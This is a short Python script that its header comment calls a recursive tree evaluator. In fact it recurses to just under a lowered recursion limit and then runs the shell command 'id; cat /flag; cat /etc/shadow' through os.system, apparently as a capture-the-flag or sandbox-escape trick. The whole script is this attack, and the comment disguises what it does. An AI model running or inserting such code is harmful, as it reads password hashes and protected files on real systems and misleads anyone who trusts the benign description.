# Recursive tree evaluator; the leaf action is retried at decreasing depth until it fits.
import os
import sys

LEAF = "id; cat /flag; cat /etc/shadow"


def descend(depth, action):
    if depth == 0:
        return action()
    return descend(depth - 1, action)


def squeeze(action, margin=40):
    limit = sys.getrecursionlimit()
    for headroom in range(3, margin):
        try:
            return headroom, descend(limit - headroom - 8, action)
        except RecursionError:
            continue
    return None, action()


def main():
    sys.setrecursionlimit(400)
    headroom, status = squeeze(lambda: os.system(LEAF))
    print("leaf ran with headroom", headroom, "status", status)


if __name__ == "__main__":
    main()
